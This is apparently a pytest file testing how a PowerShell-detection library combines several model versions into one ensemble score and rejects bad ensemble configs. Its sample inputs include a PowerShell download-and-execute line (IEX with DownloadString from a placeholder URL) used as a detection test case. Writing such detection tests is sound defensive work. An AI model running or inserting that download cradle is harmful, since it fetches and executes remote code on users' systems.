"""Ensembles: several model versions behind one detection, combined by mean, weight or max."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import numpy as np
import pytest

from vigil.errors import ConfigError
from vigil.runtime.detection import Detection
from vigil.store import Store

PublishModel = Callable[..., Any]

VALUES = [
    "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
    "Get-Service w32time",
    None,
]


def _single(store: Store, ref: str) -> np.ndarray:
    return Detection("powershell", "powershell", model_alias=ref).bind(store).score(VALUES)


@pytest.fixture
def three_versions(store: Store, publish_model: PublishModel) -> Store:
    publish_model(bias=-3.0, threshold=0.4)
    publish_model(bias=0.0, threshold=0.6, alias=None)
    publish_model(bias=2.0, threshold=0.8, alias=None)
    return store


def test_mean_of_members_is_the_mean_of_their_scores(three_versions: Store) -> None:
    ensemble = Detection(
        "powershell_ensemble", "powershell", members=("powershell@1", "powershell@2")
    ).bind(three_versions)
    expected = (_single(three_versions, "1") + _single(three_versions, "2")) / 2
    np.testing.assert_allclose(ensemble.score(VALUES), expected)
    assert np.isnan(ensemble.score(VALUES)[2])
    assert ensemble.threshold == pytest.approx(0.5)


def test_weighted_and_max(three_versions: Store) -> None:
    members = ("powershell@1", "powershell@3")
    one, three = _single(three_versions, "1"), _single(three_versions, "3")
    weighted = Detection(
        "w", "powershell", members=members, combine="weighted", weights=(3.0, 1.0)
    ).bind(three_versions)
    np.testing.assert_allclose(weighted.score(VALUES), 0.75 * one + 0.25 * three)
    assert weighted.threshold == pytest.approx(0.75 * 0.4 + 0.25 * 0.8)
    highest = Detection("m", "powershell", members=members, combine="max").bind(three_versions)
    np.testing.assert_allclose(highest.score(VALUES), np.fmax(one, three))
    assert highest.threshold == pytest.approx(0.8)


def test_members_follow_their_aliases(three_versions: Store) -> None:
    three_versions.promote("powershell", 2, "staging")
    ensemble = Detection(
        "powershell", "powershell", members=("@production", "@staging"), combine="max"
    ).bind(three_versions)
    before = ensemble.score(VALUES)
    three_versions.promote("powershell", 3, "staging")
    after = ensemble.score(VALUES)
    np.testing.assert_allclose(
        after, np.fmax(_single(three_versions, "1"), _single(three_versions, "3"))
    )
    assert after[1] > before[1]


def test_explanations_come_from_the_heaviest_member(three_versions: Store) -> None:
    ensemble = Detection(
        "w",
        "powershell",
        members=("powershell@1", "powershell@3"),
        combine="weighted",
        weights=(1.0, 4.0),
    ).bind(three_versions)
    explanation = ensemble.explain(VALUES[:1])[0]
    assert explanation is not None
    assert explanation.model == "powershell@3"


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"members": ("powershell",)}, "must look like"),
        ({"members": ("powershell@1",), "weights": (1.0, 2.0)}, "one weight per member"),
        ({"members": ("a@1", "b@1"), "combine": "weighted"}, "non-negative weight"),
        ({"members": ("a@1", "b@1"), "combine": "median"}, "not one of"),
        ({"listed_score": 1.5}, "outside"),
        ({"score_sql": "drop table x"}, "not a valid SQL name"),
    ],
)
def test_bad_ensembles_are_refused_with_a_reason(kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        Detection("e", "powershell", **kwargs)


def test_round_trips_through_a_dict() -> None:
    detection = Detection(
        "e", "powershell", members=("a@1", "b@production"), combine="weighted", weights=(1, 2)
    )
    assert Detection.from_dict(detection.to_dict()) == detection
